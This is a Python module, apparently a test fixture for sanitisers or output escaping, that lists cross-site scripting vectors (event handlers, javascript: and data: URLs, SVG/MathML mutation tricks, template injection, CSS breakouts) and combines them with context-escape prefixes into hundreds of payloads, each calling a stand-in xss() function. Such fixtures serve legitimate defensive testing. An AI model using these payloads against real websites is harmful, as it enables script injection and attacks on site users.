"""Texts that run a script wherever they are taken for markup, for an address or for a style: each calls `xss()`."""

from urllib.parse import quote

#: What runs by itself, when it is taken for HTML.
VECTORS = (
    "<script>xss()</script>",
    "<script src='data:text/javascript,xss()'></script>",
    "<script type=module>xss()</script>",
    "<img src=x onerror=xss()>",
    "<img/src=x/onerror=xss()>",
    "<img src=x onerror\t=\txss()>",
    "<img src=x onerror='xss()' x",
    "<image src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><script href='data:,xss()'/></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><set onbegin=xss() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:xss()'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=xss()>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>",
    "<math><a xlink:href='javascript:xss()'>x</a></math>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<template><img src=x onerror=xss()></template><img src=x onerror=xss()>",
    "<body onload=xss()>",
    "<body onpageshow=xss()>",
    "<iframe src='javascript:parent.xss()'></iframe>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe onload=xss()></iframe>",
    "<object data='javascript:xss()'></object>",
    "<object data='data:text/html,<script>parent.xss()</script>'></object>",
    "<embed src='javascript:xss()'>",
    "<details open ontoggle=xss()><summary>x</summary></details>",
    "<details/open/ontoggle=xss()>",
    "<video src=x onerror=xss()></video>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()></audio>",
    "<audio autoplay onloadstart=xss()><source src=x></audio>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()></select>",
    "<textarea autofocus onfocus=xss()></textarea>",
    "<button autofocus onfocus=xss()>x</button>",
    "<a autofocus tabindex=0 onfocus=xss() href=#x id=x>x</a>",
    "<marquee onstart=xss()>x</marquee>",
    "<style>@keyframes x{}</style><p style='animation:x' onanimationstart=xss()>x</p>",
    "<style onload=xss()></style>",
    "<link rel=stylesheet href='data:text/css,' onload=xss()>",
    "<link rel=preload as=script href=x onerror=xss()>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<base href='javascript:/x/'><a href='xss()'>x</a>",
    "<form action='javascript:xss()'><input type=submit autofocus></form>",
    "<isindex action='javascript:xss()' type=image>",
    "<p style='background:url(javascript:xss())'>x</p>",
    "<p onmouseover=xss() onpointerrawupdate=xss() style='position:fixed;inset:0'>x</p>",
    "<xss onanimationend=xss() style='animation:x 1ms'>x</xss>",
    "<p hidden=until-found onbeforematch=xss()>x</p>",
    "<a href='javascript:xss()'>x</a>",
    "<a href='JaVaScRiPt:xss()'>x</a>",
    "<a href='java\tscript:xss()'>x</a>",
    "<a href='&#106;avascript:xss()'>x</a>",
    "<a href='\x01javascript:xss()'>x</a>",
    "<a href='data:text/html,<script>xss()</script>'>x</a>",
    "<a href='vbscript:xss()'>x</a>",
    "{{constructor.constructor('xss()')()}}",
    "{% load x %}{{ 7|xss }}",
    "${xss()}",
)
#: What it takes to get out of where a text stands.
WAYS_OUT = ("", '">', "'>", "</script>", "</style>", "</title></textarea>", "-->", "]]>", '\\">')


def build_payloads() -> list[str]:
    """More than five hundred, all different."""
    found = [out + vector for out in WAYS_OUT for vector in VECTORS]
    found += [vector.replace("<", "\uff1c") for vector in VECTORS]
    found += [vector.replace("<", "&lt;").replace(">", "&gt;") for vector in VECTORS]
    return list(dict.fromkeys(found))


#: Addresses that run a script where they are followed.
ADDRESSES = (
    "javascript:xss()",
    "JAVASCRIPT:xss()",
    "javascript:alert(1)//https://x.example",
    " javascript:xss()",
    "data:text/html,<script>xss()</script>",
    "vbscript:xss()",
    "https://x.example/'onmouseover='xss()",
    'https://x.example/"onmouseover="xss()',
    "https://x.example/</script><script>xss()</script>",
)
#: Values that end a rule of a stylesheet, or the stylesheet.
STYLES = ("#000}</style><script>xss()</script>", "red;background:url(javascript:xss())", "#00000\\", "#12345}")


def quoted(text: str) -> str:
    return quote(text, safe="")
